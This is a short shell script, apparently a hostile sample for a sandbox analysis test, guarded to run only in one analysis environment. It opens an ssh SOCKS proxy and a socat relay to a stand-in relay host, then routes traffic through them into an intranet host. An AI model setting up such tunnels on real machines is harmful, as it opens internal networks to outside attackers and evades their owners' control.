#!/bin/sh
# SPDX-License-Identifier: MIT
# Turns the host into a proxy for the operator: a SOCKS proxy through
# ssh -D, a socat relay, and traffic sent through proxychains.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
opts='-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2'
timeout 3 ssh $opts -f -N -D 0.0.0.0:1080 tunnel@relay.example.net 2>/dev/null
timeout 3 socat TCP-LISTEN:8081,fork,reuseaddr TCP:relay.example.net:443 2>/dev/null
timeout 3 proxychains4 -q curl -sm 2 http://ifconfig.example.com 2>/dev/null
curl -sm 2 --socks5-hostname relay.example.net:1080 http://intranet.example.net/ > /dev/null
exit 0
